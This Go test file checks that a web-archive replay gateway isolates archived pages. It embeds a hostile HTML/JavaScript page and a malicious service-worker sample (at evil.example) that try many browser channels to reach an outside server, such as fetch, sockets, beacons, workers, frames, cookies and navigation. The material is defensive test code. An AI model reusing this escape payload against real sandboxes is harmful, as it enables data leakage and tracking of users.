package replay

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/anyurl/fetch/gateway"
	"github.com/anyurl/fetch/internal/test/browsertest"
	"github.com/anyurl/fetch/schemes"
	"github.com/anyurl/fetch/uri"
)

// A journal is a server that records the requests of a browser.
type journal struct {
	*httptest.Server
	address string
	mu      sync.Mutex
	lines   []string
}

func newJournal(t *testing.T) *journal {
	j := new(journal)
	j.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		j.mu.Lock()
		j.lines = append(j.lines, r.Method+" "+r.RequestURI)
		j.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "open")
	}))
	t.Cleanup(j.Close)
	j.address = strings.TrimPrefix(j.URL, "http://")
	return j
}

// wait waits for a request for a path.
func (j *journal) wait(t *testing.T, path string) {
	t.Helper()
	for limit := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		if slices.ContainsFunc(j.all(), func(line string) bool { return strings.HasSuffix(line, " "+path) }) {
			return
		}
		if time.Now().After(limit) {
			t.Errorf("control: no request for %s: %q", path, j.all())
			return
		}
	}
}

func (j *journal) all() []string {
	j.mu.Lock()
	defer j.mu.Unlock()
	return slices.Clone(j.lines)
}

// attack is a page that tries to reach the server %[1]s, and the pages %[2]s of
// the interface and %[3]s of another archive, in all ways that a page has. It
// avoids archivedScript by frames that are not from the server.
const attack = `<!DOCTYPE html><html><head><title>running</title><link rel=stylesheet href="//%[1]s/css"><meta http-equiv=refresh content="60;url=http://%[1]s/refresh"></head><body>
<img src="//%[1]s/image"><iframe src="//%[1]s/frame"></iframe><object data="//%[1]s/object"></object><embed src="//%[1]s/embed"><video src="//%[1]s/video"></video>
<script src="//%[1]s/script"></script><form id=form method=post action="//%[1]s/form" target=named><input name=a></form><iframe name=named></iframe><iframe name=pinged></iframe><script>
const results = {}, outside = 'http:' + '//%[1]s'
const attempt = async (name, f) => { try { results[name] = String(await f()) } catch (e) { results[name] = 'blocked' } }
const read = (url, options) => fetch(url, options).then(r => r.text()).then(t => 'read ' + t.length)
const fresh = () => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow }
const sandboxed = document.createElement('iframe')
sandboxed.sandbox = 'allow-scripts'
sandboxed.srcdoc = '<img src="' + outside + '/srcdoc"><script>fetch("' + outside + '/srcdocfetch"); new WebSocket("ws://%[1]s/srcdocsocket")<' + '/script>'
document.body.append(sandboxed)
const blank = document.createElement('iframe')
blank.src = URL.createObjectURL(new Blob(['<img src="' + outside + '/blob"><script>fetch("' + outside + '/blobfetch")<' + '/script>'], {type: 'text/html'}))
document.body.append(blank)
const plain = fresh()
plain.document.write('<img src="' + outside + '/written"><link rel=stylesheet href="' + outside + '/writtenstyle">')
plain.location = 'data:text/html,<img src="' + outside + '/data">'
form.submit()
const worker = text => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = e => done(e.data); w.onerror = failed })
const late = new Promise((_, failed) => setTimeout(failed, 3000))
Promise.all([
	attempt('fetch', () => fresh().fetch(outside + '/fetch')),
	attempt('no-cors', () => fresh().fetch(outside + '/nocors', {mode: 'no-cors'})),
	attempt('interface', () => fresh().fetch('%[2]s')),
	attempt('archive', () => fresh().fetch('%[3]s')),
	attempt('image', () => new Promise((done, failed) => { const i = new (fresh().Image); i.onload = done; i.onerror = failed; i.src = outside + '/newimage' })),
	attempt('style', () => { const s = document.createElement('style'); s.textContent = 'body { background: url(' + outside + '/background) } @import "' + outside + '/import";'; document.head.append(s); return 'sent' }),
	attempt('socket', () => new Promise((done, failed) => { const s = new WebSocket('ws://%[1]s/socket'); s.onopen = done; s.onerror = failed })),
	attempt('transport', () => new WebTransport('https://%[1]s/transport').ready),
	attempt('beacon', () => { fresh().navigator.sendBeacon(outside + '/beacon', 'x'); return 'sent' }),
	attempt('worker', () => worker('fetch("' + outside + '/worker").then(() => postMessage(1), () => postMessage("refused"))').then(r => { if (r === 'refused') throw r; return r })),
	attempt('import', () => import(outside + '/import.js')),
	attempt('popup', () => Window.prototype.open?.call(window, outside + '/popup')?.location ?? fresh().open(outside + '/popup').location),
	attempt('service', () => navigator.serviceWorker.register('/sw.js').then(() => 'registered')),
	attempt('parent', () => fresh().top.document.title),
	attempt('cookie', () => { const d = fresh().document; d.cookie = 'wide=1; domain=localhost'; return d.cookie.includes('wide') ? 'set' : Promise.reject() }),
	attempt('download', () => { const a = document.createElement('a'); a.href = outside + '/ping'; a.ping = outside + '/ping'; a.target = 'pinged'; document.body.append(a); a.click(); return 'sent' }),
]).then(() => late.catch(() => {})).then(() => attempt('top', () => { fresh().top.location = outside + '/top'; return Promise.reject() })).then(() => { document.title = JSON.stringify(results) })
</script></body></html>`

// TestAttack opens a hostile archived page with its scripts. The control is the
// same page on a server without protection.
func TestAttack(t *testing.T) {
	t.Parallel()
	outside, control := newJournal(t), newJournal(t)
	l, err := gateway.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	handler, err := gateway.New(gateway.Options{Address: l.Addr(), Schemes: schemes.All(schemes.Options{})})
	if err != nil {
		t.Fatal(err)
	}
	requested := &journal{}
	interfaceServer := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requested.mu.Lock()
		requested.lines = append(requested.lines, r.RequestURI)
		requested.mu.Unlock()
		handler.ServeHTTP(w, r)
	}))
	interfaceServer.Listener.Close()
	interfaceServer.Listener = l
	interfaceServer.Start()
	defer interfaceServer.Close()

	siteListener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(siteListener.Addr().String())
	other := "http://https.a.example.20240101000000.other.localhost:" + port + "/app.js"
	page := fmt.Sprintf(attack, outside.address, "http://"+l.Addr().String()+"/", other)
	hostile := openSamples(t, append(samples, sample{"20240101", "https://evil.example/", ok("text/html", page)},
		sample{"20240101", "https://evil.example/sw.js", ok("text/javascript", "addEventListener('fetch', e => e.respondWith(new Response('<img src="+outside.URL+"/service>', {headers: {'Content-Type': 'text/html'}})))")})...)
	s := newSite(t, siteListener.Addr(), Archive{"hostile", hostile}, Archive{"other", openSamples(t, samples...)})
	answered := &journal{}
	siteServer := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		answered.mu.Lock()
		answered.lines = append(answered.lines, r.Host+" "+r.RequestURI)
		answered.mu.Unlock()
		s.ServeHTTP(w, r)
	})}
	go siteServer.Serve(siteListener)
	defer siteServer.Close()
	unprotected := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/sw.js" {
			w.Header().Set("Content-Type", "text/javascript")
			return
		}
		fmt.Fprintf(w, attack, control.address, control.URL+"/interface", control.URL+"/archive")
	}))
	defer unprotected.Close()

	b := browsertest.Start(t, outside.address, control.address, l.Addr().String(), siteListener.Addr().String(), strings.TrimPrefix(unprotected.URL, "http://"))
	p := b.Open(s.PageURL(0, time.Unix(1714979289, 0), uri.MustParse("https://evil.example/")))
	address := p.Eval("location.href")
	p.Wait("document.title.startsWith('{')")
	got := p.Eval("document.title")
	for _, name := range []string{"fetch", "no-cors", "interface", "archive", "image", "socket", "transport", "worker", "import", "popup", "service", "parent", "cookie"} {
		if !strings.Contains(got, fmt.Sprintf("%q:\"blocked\"", name)) {
			t.Errorf("%s is not blocked: %s", name, got)
		}
	}
	if now := p.Eval("location.href"); !strings.HasSuffix(now, "/https://evil.example/") || address[:20] != now[:20] {
		t.Errorf("the tab shows %s", now)
	}
	if lines := outside.all(); len(lines) > 0 {
		t.Errorf("requests to another server: %q", lines)
	}
	if lines := requested.all(); len(lines) > 0 {
		t.Errorf("requests to the interface: %q", lines)
	}
	for _, line := range answered.all() {
		if strings.Contains(line, ".other.localhost") {
			t.Errorf("request to another archive: %s", line)
		}
	}

	p.Go(unprotected.URL)
	p.Wait("document.title.startsWith('{') || location.href.includes('/top')")
	for _, way := range []string{"/css", "/image", "/frame", "/object", "/embed", "/video", "/script", "/form", "/srcdoc", "/srcdocfetch", "/srcdocsocket", "/blob", "/blobfetch",
		"/written", "/writtenstyle", "/data", "/fetch", "/nocors", "/interface", "/archive", "/newimage", "/background", "/socket", "/beacon", "/worker", "/import.js", "/ping", "/popup", "/top"} {
		control.wait(t, way)
	}
}
